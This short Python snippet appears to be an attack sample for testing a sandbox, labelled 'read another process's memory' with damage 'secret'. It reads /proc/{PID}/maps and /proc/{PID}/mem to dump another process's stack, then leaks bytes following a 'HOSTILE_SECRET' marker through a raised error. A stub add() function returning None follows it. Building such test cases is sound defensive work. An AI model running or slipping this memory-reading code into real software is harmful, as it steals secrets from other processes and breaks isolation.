# attack: read another process's memory
# damage: secret
maps = open("/proc/{PID}/maps").read().splitlines()
stack = next(line for line in maps if "[stack]" in line).split()[0]
start, end = (int(part, 16) for part in stack.split("-"))
memory = open("/proc/{PID}/mem", "rb", buffering=0)
memory.seek(start)
data = memory.read(end - start)
raise RuntimeError(data[data.index(b"HOSTILE_SECRET") :][:200])


def add(a, b):
    return None
